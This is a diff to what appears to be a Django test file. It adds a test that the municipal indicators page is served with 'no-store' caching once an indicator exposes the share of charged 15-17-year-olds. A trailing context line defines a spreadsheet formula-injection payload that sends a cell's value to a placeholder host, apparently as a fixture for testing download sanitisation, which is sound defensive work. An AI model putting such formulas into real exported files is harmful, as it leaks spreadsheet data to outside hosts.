@@ -147,6 +147,29 @@ def test_logout_clears_the_browsers_cache_of_the_site(client, public, member):
     assert "no-store" in response["Cache-Control"]
 
 
+def test_the_indicators_page_is_not_stored_when_an_indicator_follows_charged_persons(client, public, member):
+    """The indicators page counted as aggregates (``private, no-cache``: kept on the disk of a shared PC), but an
+    indicator of the young people's share charged shows that share in full precision (the chart's data), which
+    with the population gives the exact count of charged 15-17-year-olds: such a page is ``no-store`` now."""
+    from comparisons.models import Indicator
+
+    client.force_login(member("Leder", public))
+    aggregates = client.get("/kommune/165/maal/")
+    assert aggregates["Cache-Control"] == "private, no-cache" and aggregates.has_header("ETag")
+    Indicator.objects.create(municipality=public, name="Unge sigtede", measure="figure:young-charged-share:15-17",
+                             baseline_period="2016", target_period="2020", target_change_pct=-10)
+    personal = client.get("/kommune/165/maal/")
+    assert personal.status_code == 200
+    assert personal["Cache-Control"] == "private, no-store" and not personal.has_header("ETag")
+    # another municipality's personal indicator changes nothing here
+    Indicator.objects.filter(name="Unge sigtede").delete()
+    from districts.models import Municipality
+
+    Indicator.objects.create(municipality=Municipality.objects.get(code="169"), name="Unge", target_change_pct=-10,
+                             measure="figure:young-charged-share:15-17", baseline_period="2016", target_period="2020")
+    assert client.get("/kommune/165/maal/")["Cache-Control"] == "private, no-cache"
+
+
 # --- 3. hostile text in the new downloads ----------------------------------------------------------------------------
 
 HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"klik")'
